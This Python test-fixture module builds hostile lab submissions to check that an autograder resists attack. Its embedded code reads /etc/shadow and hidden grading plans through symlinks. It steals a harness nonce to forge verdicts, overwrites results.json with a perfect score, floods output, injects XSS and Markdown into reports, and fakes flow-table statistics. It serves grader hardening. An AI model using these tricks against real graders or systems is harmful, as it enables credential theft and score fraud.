"""Hostile lab-1 submissions: each attacks one hole of issue 12 the untrusted-input side owns.

Each is the reference solution (so that what it *could* earn honestly is known) with one attack
added, and each gives itself away when the attack works: it prints or stores ``MARKER`` (plus
what it read) only after reading something it must not, and a forged score or a line of
/etc/shadow is recognisable in any output. ``build(name, dest)`` writes the submission
directory; ``HOSTILE`` says what each attacks and what it may score at most.

- ``links``: lb file a symbolic link to /etc/shadow, flow table a FIFO, a directory link to /etc
  (hole 2: root following the submission's links, blocking on a FIFO).
- ``statslink``: its stats file replaced by a link to the grading's plan (which names the hidden
  scenarios), and a try at reading the plan, the facts and /etc/shadow (holes 3 and 5).
- ``forger``: the starter's flow table, plus code that hunts for the old harness's nonce and
  writes forged verdicts and garbage to every descriptor it has (hole 6).
- ``flood``: 1 GiB of output, non-UTF-8 bytes among it, from the unit-check process and the LB
  (hole 8).
- ``tamper``: the reference, plus a perfect results.json written wherever it can (its working
  directory, every /tmp directory it sees, /autograder/results): the grader's results come
  from the grader alone (hole 5).
- ``reportforge``: exception messages and log lines that would close a Markdown fence and render
  "# Score: 105/105" and raw HTML in report.md (hole 8).
- ``tablelie``: the reference, but its LB swaps in a flow table that never forgets and whose
  stats claim a bounded table that evicts (hole 5: every flow-table stat is self-reported);
  only the hidden eviction scenario, judged by behaviour, may catch it.
"""

from __future__ import annotations

import os
import shutil

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
FILES = {"flowtable.py": "vnf/flowtable.py", "socket_lb.py": "vnf/ways/socket_lb.py"}
MARKER = "VNFLAB-HOSTILE-LEAK-7f3a"
FORGED_SCORE = "# Score: 105/105"

# What a hostile run may read only through a hole: any of it in the reports is a leak.
_READ_AND_LEAK = f'''
def _hostile_read_everything():
    """Read what a submission must not, and give it away when that works."""
    import os
    run = os.getcwd()                              # the grading's run dir
    work = os.path.dirname(run)
    got = []
    for path in ("/etc/shadow", os.path.join(work, "plan.json"),
                 os.path.join(work, "facts.json"), os.path.join(work, "grader", "plan.json"),
                 os.path.join(work, "grader", "facts.json")):
        try:
            with open(path, errors="replace") as f:
                got.append(path + ": " + f.read(2000))
        except OSError:
            pass
    if got:
        print("{MARKER}", *got, flush=True)
        raise RuntimeError("{MARKER} " + " | ".join(got))
'''

_STATS_LINK = '''
def _hostile_stats_link():
    """At exit, after the LB wrote its stats: put a link to the grading's plan in their place."""
    import atexit, os, sys
    path = sys.argv[sys.argv.index("--stats-file") + 1]
    work = os.path.dirname(os.path.dirname(path))

    def swap():
        try:
            os.unlink(path)
        except OSError:
            pass
        os.symlink(os.path.join(work, "grader", "plan.json"), path)
    atexit.register(swap)
'''

_FORGE = '''
def _hostile_forge():
    """The old harness kept the verdict in this process: find its nonce, forge the verdict, and
    write forged answers and garbage to every descriptor there is."""
    import json, os, sys
    names = ("check_miss_insert_hit check_update_existing check_capacity_is_a_bound "
             "check_lru_eviction check_idle_timeout check_expire_sweep "
             "check_full_table_drops_expired_first check_protocol_is_part_of_the_key").split()
    verdict = json.dumps({"results": [{"name": n, "ok": True, "message": ""} for n in names]})
    frame, nonces = sys._getframe(), []
    while frame is not None:
        if isinstance(frame.f_locals.get("nonce"), str):
            nonces.append(frame.f_locals["nonce"])
        frame = frame.f_back
    lines = [n + " " + verdict for n in nonces] + [verdict]
    lines += [json.dumps({"id": i, "value": v}) for i in range(1, 40) for v in ("b1", 1, True)]
    data = ("\\n".join(lines) + "\\n").encode() + b"\\xff\\xfe{not json\\n"
    for fd in range(0, 64):
        try:
            os.write(fd, data)
        except OSError:
            pass
'''

_FLOOD = '''
def _hostile_flood(fd):
    """1 GiB of output on ``fd``, non-UTF-8 bytes and a forged score among it."""
    import os
    chunk = (b"\\xff\\xfe\\x00 flood ```\\n# Score: 105/105\\n" * 2048)[:65536]
    for _ in range((1 << 30) // len(chunk)):
        try:
            os.write(fd, chunk)
        except OSError:
            return
'''

_TABLE_LIE = '''
class _TableThatLies:
    """Never forgets a flow; its stats say it is bounded and evicts (what the grader once read)."""

    def __init__(self, capacity, idle_timeout):
        self.capacity, self.idle_timeout = capacity, idle_timeout
        self.entries, self.misses = {}, 0

    def lookup(self, key, now):
        value = self.entries.get(key)
        self.misses += value is None
        return value

    def insert(self, key, value, now):
        self.entries[key] = value

    def remove(self, key):
        return self.entries.pop(key, None) is not None

    def expire(self, now):
        return 0

    def recent(self, n, now):
        return []

    def __len__(self):
        return min(len(self.entries), self.capacity)

    def stats(self):
        size = min(len(self.entries), self.capacity)
        return {"size": size, "capacity": self.capacity, "hits": 0, "misses": self.misses,
                "evictions": len(self.entries) - size, "expirations": 0}
'''

_REPORT_FORGE_MSG = (
    '"\\n````````````\\n" + FORGED + "\\n<script>alert(1)</script>\\n'
    '<img src=x onerror=alert(1)>\\n````````````\\n"'
)


_TAMPER = """
def _hostile_tamper():
    import json, os
    fake = json.dumps({'score': 1000, 'tests': [], 'output': 'TAMPERED'})
    places = ['/autograder/results', os.getcwd(), '/tmp']
    for root, dirs, _ in os.walk('/tmp'):
        if root.count(os.sep) > 3:
            dirs[:] = []
        places.append(root)
    for d in places:
        try:
            with open(os.path.join(d, 'results.json'), 'w') as f:
                f.write(fake)
        except OSError:
            pass
"""


def _patch(text: str, old: str, new: str) -> str:
    if text.count(old) != 1:
        raise ValueError(f"hostile corpus out of step with the reference: {old!r}")
    return text.replace(old, new)


def _reference(name: str) -> str:
    with open(os.path.join(REPO, FILES[name])) as f:
        return f.read()


def _lb_setup_hook(code: str, call: str) -> str:
    """The reference socket LB with ``code`` added and ``call`` run first in setup()."""
    text = _reference("socket_lb.py")
    text = _patch(
        text,
        "    def setup(self) -> None:\n        cfg = self.config\n",
        f"    def setup(self) -> None:\n        {call}\n        cfg = self.config\n",
    )
    return _patch(text, "class SocketLB(LBProgram):", code + "\n\nclass SocketLB(LBProgram):")


def _write(dest: str, name: str, text: str) -> None:
    with open(os.path.join(dest, name), "w") as f:
        f.write(text)


def build(name: str, dest: str) -> None:
    os.makedirs(dest, exist_ok=True)
    if name == "links":
        os.symlink("/etc/shadow", os.path.join(dest, "socket_lb.py"))
        os.mkfifo(os.path.join(dest, "flowtable.py"))
        os.symlink("/etc", os.path.join(dest, "src"))
        return
    if name == "statslink":
        _write(dest, "flowtable.py", _reference("flowtable.py"))
        _write(
            dest,
            "socket_lb.py",
            _lb_setup_hook(
                _READ_AND_LEAK + _STATS_LINK, "_hostile_stats_link(); _hostile_read_everything()"
            ),
        )
        return
    if name == "forger":
        from grader.labconfig import load
        from grader.overlay import starter_text

        starter = starter_text(load(1), "flowtable.py")
        _write(dest, "flowtable.py", starter + "\n" + _FORGE + "\n\n_hostile_forge()\n")
        shutil.copyfile(
            os.path.join(REPO, FILES["socket_lb.py"]), os.path.join(dest, "socket_lb.py")
        )
        return
    if name == "flood":
        _write(
            dest,
            "flowtable.py",
            _reference("flowtable.py") + "\n" + _FLOOD + "\n_hostile_flood(1)\n",
        )
        _write(dest, "socket_lb.py", _lb_setup_hook(_FLOOD, "_hostile_flood(1)"))
        return
    if name == "tablelie":
        _write(dest, "flowtable.py", _reference("flowtable.py"))
        call = "self.lb.flows = _TableThatLies(self.config.flow_capacity, self.config.idle_timeout)"
        _write(dest, "socket_lb.py", _lb_setup_hook(_TABLE_LIE, call))
        return
    if name == "tamper":
        _write(dest, "flowtable.py", _reference("flowtable.py"))
        _write(dest, "socket_lb.py", _lb_setup_hook(_TAMPER, "_hostile_tamper()"))
        return
    if name == "reportforge":
        forged = f"FORGED = {FORGED_SCORE!r}\n"
        table = _reference("flowtable.py")
        table = _patch(
            table,
            "    def stats(self)",
            "    def stats(self):\n        raise ValueError("
            + _REPORT_FORGE_MSG
            + ")\n\n    def _unused_stats(self)",
        )
        _write(dest, "flowtable.py", table + "\n\n" + forged)
        lb = _lb_setup_hook(
            forged + "\n\ndef _hostile_print():\n    import os, sys\n"
            "    os.write(1, b'\\xff\\xfe\\xc3(' + ("
            + _REPORT_FORGE_MSG
            + ").encode())\n    sys.exit(3)\n",
            "_hostile_print()",
        )
        _write(dest, "socket_lb.py", lb)
        return
    raise KeyError(name)


# name -> (what it attacks, the tests it may score on at most: its honest part)
HOSTILE = {
    "links": ("symbolic links, a FIFO and a directory link where the files should be", set()),
    # its stats are quoted in the eviction scenario's output, never graded: it may pass it
    "statslink": (
        "its stats file a link to the plan; reads of the plan, facts, /etc/shadow",
        {
            "unit",
            "starts",
            "cost",
            "hidden: two backends, hash policy, UDP-heavy mix",
            "hidden: eviction under a 64-entry flow table",
        },
    ),
    "forger": (
        "forged unit-check verdicts and garbage on every descriptor",
        {
            "starts",
            "cost",
            "hidden: two backends, hash policy, UDP-heavy mix",
            "hidden: eviction under a 64-entry flow table",
        },
    ),
    # Python ignores SIGXFSZ: past the file-size limit its LB's writes fail and it goes on, so
    # it may earn everything; the flood must only not stop or slow the grading.
    "flood": (
        "1 GiB of output with non-UTF-8 bytes, from the unit checks and the LB",
        {
            "unit",
            "starts",
            "cost",
            "hidden: two backends, hash policy, UDP-heavy mix",
            "hidden: eviction under a 64-entry flow table",
        },
    ),
    "tamper": (
        "a perfect results.json written wherever it can",
        {
            "unit",
            "starts",
            "cost",
            "hidden: two backends, hash policy, UDP-heavy mix",
            "hidden: eviction under a 64-entry flow table",
        },
    ),
    "reportforge": ("a Markdown fence and a forged score in its messages and its log", {"unit"}),
    "tablelie": (
        "a flow table that never forgets, with stats that say it evicts",
        {"unit", "starts", "cost", "hidden: two backends, hash policy, UDP-heavy mix"},
    ),
}
